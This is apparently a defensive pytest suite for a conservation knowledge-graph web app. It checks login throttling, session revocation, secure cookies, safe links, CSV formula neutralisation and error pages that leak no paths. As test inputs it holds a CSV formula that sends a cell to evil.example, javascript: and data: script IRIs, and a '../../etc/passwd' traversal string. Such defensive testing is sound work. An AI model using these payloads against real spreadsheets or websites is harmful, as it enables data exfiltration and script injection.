"""Attacks on the steward area, each refused: password guessing (throttled, 429),
stolen or copied session cookies (logout and password changes end them on the
server), cookies over plain HTTP, script IRIs on entity pages, formulas in CSV
downloads, pending checks filling the disk, and error pages that would map the
server's file system. Every test also checks that the server still answers.

Each test gets its own dist/ copy, additions directory and accounts file (KG_DIST,
KG_ADDITIONS, KG_STEWARDS in a temporary directory), as in tests/test_steward_web.py.
"""
from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from rdflib import Literal, URIRef

from conftest import TURTLE_PREFIXES as PREFIXES, new_measure as measure, steward_paths
from webapp.state import graph_state

BASE = "https://w3id.org/bukhara-deer/"
PASSWORD = "correct horse battery"
NEW_PASSWORD = "another horse battery"
TEXT_99 = "Publish an annual studbook of the captive Bukhara Deer groups."
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


NEW_MEASURE = measure("9.9", "9.9", TEXT_99)


# ---------------------------------------------------------------------------------
# Fixtures and helpers
# ---------------------------------------------------------------------------------

@pytest.fixture
def env(pristine, tmp_path, monkeypatch) -> dict:
    paths = steward_paths(pristine, tmp_path, monkeypatch)
    from kg import stewards

    stewards.add("alice", PASSWORD)
    stewards.add("bob", PASSWORD)
    return paths


def make_app(env, **config):
    from webapp import create_app

    return create_app({"KG_DIST": str(env["dist"]), "SECRET_KEY": "test", "TESTING": True, **config})


@pytest.fixture
def app(env):
    return make_app(env)


def csrf(html: str) -> str:
    m = re.search(r'name="csrf_token" value="([^"]+)"', html)
    assert m, "no CSRF token in the page"
    return m.group(1)


def login(client, name="alice", password=PASSWORD, addr="192.0.2.1"):
    page = client.get("/steward/login", environ_base={"REMOTE_ADDR": addr})
    assert page.status_code == 200
    return client.post("/steward/login", environ_base={"REMOTE_ADDR": addr},
                       data={"name": name, "password": password, "csrf_token": csrf(page.get_data(as_text=True))})


def logged_in(app, name="alice"):
    client = app.test_client()
    assert login(client, name).status_code == 303
    page = client.get("/steward")
    assert page.status_code == 200
    return client, csrf(page.get_data(as_text=True))


def text_of(r) -> str:
    import html as htmllib

    body = re.sub(r"<style>.*?</style>", " ", r.get_data(as_text=True), flags=re.S)
    return " ".join(htmllib.unescape(re.sub(r"<[^>]+>", " ", body)).split())


def pending_token(html: str) -> str:
    m = re.search(r'name="token" value="([^"]+)"', html)
    assert m, "no accept form in the page"
    return m.group(1)


def paste(client, token, text: str):
    return client.post("/steward/check", data={"csrf_token": token, "format": "turtle", "text": text})


def accept(client, token, text: str, source="security test"):
    r = paste(client, token, text)
    assert r.status_code == 200, text_of(r)
    r = client.post("/steward/accept", data={"csrf_token": token, "token": pending_token(r.get_data(as_text=True)),
                                             "source": source})
    assert r.status_code == 303, text_of(r)


def still_answers(client) -> None:
    """The server is up: a public page and the steward pages answer (the log-in page
    redirects a steward who is logged in)."""
    assert client.get("/").status_code == 200
    assert client.get("/steward/login").status_code in (200, 302)
    assert client.get("/steward").status_code in (200, 302)


def cookie_of(client, app) -> str:
    c = client.get_cookie(app.config["SESSION_COOKIE_NAME"])
    assert c is not None
    return c.value


# ---------------------------------------------------------------------------------
# 1. Log-in throttling
# ---------------------------------------------------------------------------------

def test_password_guessing_is_throttled_per_account(app):
    client = app.test_client()
    for _ in range(5):
        r = login(client, password="guess " * 3)
        assert r.status_code == 401
    r = login(client)  # the right password, during the lockout
    assert r.status_code == 429
    wait = int(r.headers["Retry-After"])
    assert 0 < wait <= 900
    body = text_of(r)
    assert "Too many failed log-in attempts" in body and "Try again" in body and re.search(r"until \d\d:\d\d UTC", body)
    assert client.get("/steward").status_code == 302  # not logged in
    # another account from another address is not affected
    other = app.test_client()
    assert login(other, name="bob", addr="198.51.100.7").status_code == 303
    still_answers(client)


@pytest.mark.slow
def test_lockout_ends_and_a_success_resets_the_account_count(app):
    now = [1000.0]
    graph_state(app).login_throttle.clock = lambda: now[0]
    client = app.test_client()
    for _ in range(5):
        assert login(client, password="wrong password").status_code == 401
    assert login(client).status_code == 429
    now[0] += 901  # the lockout is over
    assert login(client).status_code == 303
    client.post("/steward/logout", data={"csrf_token": csrf(client.get("/steward").get_data(as_text=True))})
    for _ in range(4):
        assert login(client, password="wrong password").status_code == 401
    assert login(client).status_code == 303  # resets the account's count ...
    client = app.test_client()
    for _ in range(4):  # ... so four more failures do not lock it
        assert login(client, password="wrong password").status_code == 401
    assert login(client).status_code == 303
    still_answers(client)


@pytest.mark.slow
def test_guessing_many_accounts_from_one_address_is_throttled(app):
    client = app.test_client()
    for i in range(20):
        assert login(client, name=f"user{i}", password="wrong password").status_code == 401
    r = login(client)  # alice, right password, same address
    assert r.status_code == 429 and "Retry-After" in r.headers
    assert login(app.test_client(), addr="203.0.113.9").status_code == 303  # another address
    still_answers(client)


def test_throttle_settings_come_from_the_environment(env, monkeypatch):
    monkeypatch.setenv("KG_LOGIN_MAX_FAILURES", "2")
    monkeypatch.setenv("KG_LOGIN_LOCKOUT", "60")
    app = make_app(env)
    assert app.config["LOGIN_MAX_FAILURES"] == 2 and app.config["LOGIN_LOCKOUT"] == 60
    client = app.test_client()
    assert login(client, password="wrong password").status_code == 401
    assert login(client, password="wrong password").status_code == 401
    r = login(client)
    assert r.status_code == 429 and 0 < int(r.headers["Retry-After"]) <= 60
    assert "60 seconds" in text_of(r)
    still_answers(client)


def test_throttle_memory_is_bounded_and_thread_safe(app):
    from webapp.login_throttle import LoginThrottle

    t = LoginThrottle(max_account=5, max_address=10**9, max_keys=100)
    for i in range(5000):
        t.failed(f"name-{i}" + "x" * 1000, f"10.0.{i // 250}.{i % 250}")
    assert len(t) <= 100

    t = LoginThrottle(max_account=10**9, max_address=400, window=3600)
    threads = [threading.Thread(target=lambda: [t.failed("alice", "192.0.2.1") for _ in range(50)]) for _ in range(8)]
    for th in threads:
        th.start()
    for th in threads:
        th.join()
    assert t.retry_after("alice", "192.0.2.1") > 0  # 400 failures counted exactly: locked
    # through the app: a huge name is one bounded key, not megabytes of memory
    client = app.test_client()
    assert login(client, name="n" * 100_000, password="wrong password").status_code == 401
    assert all(len(k[1]) <= 300 for k in graph_state(app).login_throttle._records)
    still_answers(client)


# ---------------------------------------------------------------------------------
# 2. Sessions end on the server: log-out, password change, several processes
# ---------------------------------------------------------------------------------

def test_copied_cookie_is_refused_after_logout(app, env):
    client, token = logged_in(app)
    stolen = app.test_client()
    stolen.set_cookie(app.config["SESSION_COOKIE_NAME"], cookie_of(client, app))
    assert stolen.get("/steward").status_code == 200  # a copy works while the session lives
    assert client.post("/steward/logout", data={"csrf_token": token}).status_code == 303
    r = stolen.get("/steward")
    assert r.status_code == 302 and r.headers["Location"].endswith("/steward/login")
    r = stolen.post("/steward/check", data={"csrf_token": token, "format": "turtle", "text": NEW_MEASURE})
    assert r.status_code == 403
    assert not list(env["additions"].glob("*.trig"))
    still_answers(stolen)


def test_password_change_and_cli_logout_end_sessions(app, env):
    from kg import stewards

    client, _ = logged_in(app)
    stewards.add("alice", NEW_PASSWORD)  # `kg steward add alice` with a new password
    assert client.get("/steward").status_code == 302
    assert login(client).status_code == 401  # the old password is gone
    client, _ = logged_in(app, "bob")
    exe = Path(sys.executable).with_name("kg")
    p = subprocess.run([str(exe), "steward", "logout", "bob"], capture_output=True, text=True, timeout=60,
                       env={**os.environ, "KG_STEWARDS": str(env["stewards"])})
    assert p.returncode == 0, p.stderr
    assert stewards.verify("bob", PASSWORD)  # password unchanged
    assert client.get("/steward").status_code == 302
    still_answers(client)


def test_sessions_are_shared_by_processes_and_survive_a_restart(env):
    first, second = make_app(env), make_app(env)  # two server processes, one KG_SECRET_KEY
    client, token = logged_in(first)
    cookie = cookie_of(client, first)
    other = second.test_client()
    other.set_cookie(second.config["SESSION_COOKIE_NAME"], cookie)
    assert other.get("/steward").status_code == 200
    restarted = make_app(env).test_client()
    restarted.set_cookie("bkd_steward", cookie)
    assert restarted.get("/steward").status_code == 200
    # logging out on one ends it on the others
    assert other.post("/steward/logout", data={"csrf_token": token}).status_code == 303
    assert client.get("/steward").status_code == 302
    assert restarted.get("/steward").status_code == 302
    still_answers(client)


def test_old_accounts_file_format_still_works(env):
    from werkzeug.security import generate_password_hash

    from kg import stewards

    env["stewards"].write_text(json.dumps({"alice": generate_password_hash(PASSWORD)}))
    assert stewards.load().keys() == {"alice"} and stewards.verify("alice", PASSWORD)
    app = make_app(env)
    client, _ = logged_in(app)
    stewards.add("bob", PASSWORD)  # rewrites the file in the new form ...
    data = json.loads(env["stewards"].read_text())
    assert set(data["alice"]) == {"hash", "epoch"}
    assert client.get("/steward").status_code == 200  # ... without ending alice's session
    stewards.add("alice", NEW_PASSWORD)
    assert client.get("/steward").status_code == 302
    still_answers(client)


@pytest.mark.slow
def test_session_records_are_bounded(app):
    from webapp.steward_sessions import SessionRecords

    d = Path(app.config["STEWARD_SESSION_DIR"])
    for _ in range(25):
        logged_in(app)
    records = [f for f in d.iterdir() if not f.name.startswith(".")]
    assert len(records) == app.config["STEWARD_SESSIONS_PER_STEWARD"] == 20
    old = time.time() - app.config["STEWARD_SESSION_MAX_AGE"] - 10
    for f in records:
        os.utime(f, (old, old))
    SessionRecords(d, app.config["STEWARD_SESSION_MAX_AGE"]).sweep()
    assert not [f for f in d.iterdir()]
    assert not SessionRecords(d).valid("../../etc/passwd", "alice")
    still_answers(app.test_client())


# ---------------------------------------------------------------------------------
# 3. Secure cookies over HTTPS
# ---------------------------------------------------------------------------------

def test_session_cookie_is_secure_over_https(env, monkeypatch):
    app = make_app(env)
    https = app.test_client()
    page = https.get("/steward/login", base_url="https://localhost")
    r = https.post("/steward/login", base_url="https://localhost",
                   data={"name": "alice", "password": PASSWORD, "csrf_token": csrf(page.get_data(as_text=True))})
    assert r.status_code == 303
    assert "Secure" in r.headers["Set-Cookie"] and "HttpOnly" in r.headers["Set-Cookie"]
    plain = app.test_client()
    r = login(plain)
    assert r.status_code == 303 and "Secure" not in r.headers["Set-Cookie"]  # a development server on http
    monkeypatch.setenv("KG_SESSION_COOKIE_SECURE", "1")
    forced = make_app(env).test_client()
    r = login(forced)
    assert "Secure" in r.headers["Set-Cookie"]
    still_answers(plain)


# ---------------------------------------------------------------------------------
# 4. Only http, https and mailto IRIs become links
# ---------------------------------------------------------------------------------

@pytest.mark.parametrize("url,expected", [
    ("https://example.org/a?b=c#d", "https://example.org/a?b=c#d"), ("http://x.org/", "http://x.org/"),
    ("mailto:steward@example.org", "mailto:steward@example.org"), ("/measure/2.10", "/measure/2.10"),
    ("?format=ttl", "?format=ttl"), ("#cs-1", "#cs-1"), ("HTTPS://EXAMPLE.ORG/", "HTTPS://EXAMPLE.ORG/"),
    ("javascript:alert(1)", None), ("JaVaScRiPt:alert(1)", None), (" javascript:alert(1)", None),
    ("java\tscript:alert(1)", None), ("data:text/html,<script>alert(1)</script>", None),
    ("vbscript:msgbox(1)", None), ("file:///etc/passwd", None), ("//evil.example/", None),
    ("/\\evil.example/", None), ("urn:isbn:123", None), ("", None), (None, None), ("\x01javascript:x", None),
])
def test_safe_href(url, expected):
    from webapp.links import safe_href

    assert safe_href(url) == expected


@pytest.mark.slow
def test_javascript_iri_in_a_change_set_is_not_a_link(app):
    client, token = logged_in(app)
    accept(client, token, PREFIXES + "measure:2.10 rdfs:seeAlso <javascript:alert(1)> , "
                                     "<data:text/html,%3Cscript%3Ealert(1)%3C/script%3E> , "
                                     "<https://example.org/ok> .\n")
    r = client.get("/measure/2.10")
    page = r.get_data(as_text=True)
    assert r.status_code == 200
    assert "javascript:alert(1)" in page  # shown ...
    assert not re.search(r'href="\s*(javascript|data):', page, re.I)  # ... as text, not as a link
    assert '<a href="https://example.org/ok">' in page  # an https IRI still is a link
    still_answers(client)


# ---------------------------------------------------------------------------------
# 5. CSV downloads: formulas neutralised, and the import undoes it
# ---------------------------------------------------------------------------------

@pytest.mark.slow
def test_csv_download_neutralises_formulas_and_round_trips(app):
    from kg.csv_import import csv_to_graph

    client, token = logged_in(app)
    accept(client, token, measure("9.9", "9.9", FORMULA))
    r = client.get("/measures", query_string={"format": "csv", "q": "HYPERLINK"})
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.get_data(as_text=True))))
    assert len(rows) == 1 and rows[0]["text"] == "'" + FORMULA
    assert not [c for row in rows for c in row.values() if c.startswith(("=", "+", "-", "@"))]
    # submitted back (as a new number): the value is the original, without the apostrophe
    back = io.StringIO()
    w = csv.DictWriter(back, fieldnames=["kind", "number", "section", "text"], lineterminator="\n")
    w.writeheader()
    w.writerow({"kind": "measure", "number": "9.98", "section": "9.0", "text": rows[0]["text"]})
    g = csv_to_graph(back.getvalue(), "back.csv")
    assert g.value(URIRef(BASE + "measure/9.98"), URIRef(BASE + "ontology#text")) == Literal(FORMULA)
    still_answers(client)


def test_kg_export_neutralises_formulas(kg, tmp_path):
    from kg import csvsafe

    for value in ("=1+1", "+49 30", "-5", "@SUM(A1)", "\tx", "\rx", "'=x", "''+x", "plain", "'quoted", ""):
        assert csvsafe.restore(csvsafe.neutralise(value)) == value
        assert not csvsafe.neutralise(value).startswith(csvsafe.FORMULA_START)
    code, out, err = kg("export", "measures")
    assert code == 0, err
    assert not [c for row in csv.reader(io.StringIO(out)) for c in row if c.startswith(csvsafe.FORMULA_START)]


# ---------------------------------------------------------------------------------
# 6. Pending checks: expiry sweep, count and size caps
# ---------------------------------------------------------------------------------

def pending_files(app) -> list[Path]:
    d = Path(app.config["STEWARD_PENDING_DIR"])
    return sorted(d.iterdir()) if d.exists() else []


def test_expired_checks_and_leftovers_are_swept(app):
    client, token = logged_in(app)
    assert paste(client, token, NEW_MEASURE).status_code == 200
    d = Path(app.config["STEWARD_PENDING_DIR"])
    (d / ("o" * 32 + ".nt")).write_text("orphan")            # a check without its record
    (d / ("c" * 32 + ".claimed")).write_text("{}")          # an accept that died
    (d / (".x.nt.tmp")).write_text("half-written")
    old = time.time() - app.config["STEWARD_PENDING_TTL"] - 10
    for f in d.iterdir():
        os.utime(f, (old, old))
    fresh_orphan = d / ("f" * 32 + ".nt")
    fresh_orphan.write_text("just written, its record follows")
    assert client.get("/steward").status_code == 200  # any steward page sweeps
    assert pending_files(app) == [fresh_orphan]
    still_answers(client)


@pytest.mark.slow
def test_each_steward_keeps_a_bounded_number_of_checks(env):
    app = make_app(env, STEWARD_PENDING_PER_STEWARD=3)
    client, token = logged_in(app)
    tokens = [pending_token(paste(client, token, NEW_MEASURE).get_data(as_text=True)) for _ in range(5)]
    assert len([f for f in pending_files(app) if f.suffix == ".json"]) == 3
    r = client.post("/steward/accept", data={"csrf_token": token, "token": tokens[0], "source": "x"})
    assert r.status_code == 400 and "unknown or has expired" in text_of(r)  # the oldest went first
    r = client.post("/steward/accept", data={"csrf_token": token, "token": tokens[-1], "source": "x"})
    assert r.status_code == 303
    still_answers(client)


def test_pending_checks_have_a_total_size_cap(env):
    probe = make_app(env)
    client, token = logged_in(probe)
    paste(client, token, NEW_MEASURE)
    one = sum(f.stat().st_size for f in pending_files(probe))
    app = make_app(env, STEWARD_PENDING_MAX_BYTES=int(one * 2.5), STEWARD_PENDING_DIR=str(env["dist"] / ".p2"))
    alice, a_token = logged_in(app)
    bob, b_token = logged_in(app, "bob")
    for c, t in ((alice, a_token), (bob, b_token), (alice, a_token), (bob, b_token)):
        assert paste(c, t, NEW_MEASURE).status_code == 200
        assert sum(f.stat().st_size for f in pending_files(app)) <= app.config["STEWARD_PENDING_MAX_BYTES"]
    big = NEW_MEASURE + PREFIXES + "".join(f'measure:2.10 rdfs:comment "{"x" * 200} {i}" .\n' for i in range(40))
    before = pending_files(app)
    r = paste(alice, a_token, big)
    assert r.status_code == 507
    assert "KG_PENDING_MAX_BYTES" in text_of(r) and "Nothing was stored" in text_of(r)
    assert pending_files(app) == before
    still_answers(alice)


# ---------------------------------------------------------------------------------
# 7. Error pages: no absolute paths, no exception class names
# ---------------------------------------------------------------------------------

def test_setup_page_shows_no_paths(env):
    env["stewards"].write_text("{ not json")
    client = make_app(env).test_client()
    r = client.get("/steward")
    body = text_of(r)
    assert r.status_code == 200 and "stewards.json" in body and "not valid JSON" in body
    assert str(env["stewards"].parent) not in body and "JSONDecodeError" not in body
    assert "/tmp" not in body and str(Path.home()) not in body
    still_answers(client)


def test_broken_history_file_shows_no_paths(app, env):
    client, token = logged_in(app)
    env["additions"].mkdir(parents=True, exist_ok=True)
    (env["additions"] / "20250101T000000Z-abcdef.trig").write_text("garbage {")
    r = client.get("/steward")
    body = text_of(r)
    assert "20250101T000000Z-abcdef.trig" in body and "cannot read change set" in body
    assert str(env["additions"]) not in body and "/tmp" not in body
    still_answers(client)


def test_misconfigured_dist_error_shows_no_paths(app, env, monkeypatch, tmp_path):
    client, token = logged_in(app)
    pending = pending_token(paste(client, token, NEW_MEASURE).get_data(as_text=True))
    monkeypatch.setenv("KG_DIST", str(tmp_path / "elsewhere"))
    r = client.post("/steward/accept", data={"csrf_token": token, "token": pending, "source": "x"})
    body = text_of(r)
    assert r.status_code == 500 and "Configuration error" in body and "KG_DIST" in body
    assert str(tmp_path) not in body and str(env["dist"]) not in body
    still_answers(client)


def test_public_message_keeps_iris_and_drops_paths(app):
    from webapp.routes.steward import public_message

    with app.test_request_context():
        msg = public_message("/srv/kg/conf/stewards.json: cannot read (PermissionError: [Errno 13] "
                             "Permission denied: '/srv/kg/conf/stewards.json'); see "
                             "<https://w3id.org/bukhara-deer/measure/9.9> and ~/.config/kg/x.json")
    assert "/srv" not in msg and "PermissionError" not in msg and "~/.config" not in msg
    assert msg.startswith("stewards.json: cannot read") and "x.json" in msg
    assert "<https://w3id.org/bukhara-deer/measure/9.9>" in msg


def test_web_upload_with_remote_jsonld_context_is_refused_and_fetches_nothing(app):
    from loopback import Listener

    client, token = logged_in(app)
    with Listener() as listener:
        for doc in ('{"@context": "' + listener.url + '/ctx", "@id": "https://w3id.org/bukhara-deer/measure/99.1"}',
                    '{"@context": {"@import": "' + listener.url
                    + '/ctx"}, "@id": "https://w3id.org/bukhara-deer/measure/99.1"}'):
            r = client.post("/steward/check", data={"csrf_token": token, "format": "json-ld", "text": doc})
            assert r.status_code == 400
            assert "inline the context" in text_of(r)
        assert listener.contacts == 0
    still_answers(client)


def test_web_upload_over_the_entity_limit_is_refused(env, monkeypatch):
    monkeypatch.setenv("KG_MAX_ADDITION_ENTITIES", "3")
    app = make_app(env)
    client, token = logged_in(app)
    text = "".join(measure(f"m{i}", f"99.{i}", f"Text {i}") for i in range(1, 6))
    r = paste(client, token, text)
    assert r.status_code == 400
    assert "over the limit of 3 (KG_MAX_ADDITION_ENTITIES)" in text_of(r)
    still_answers(client)
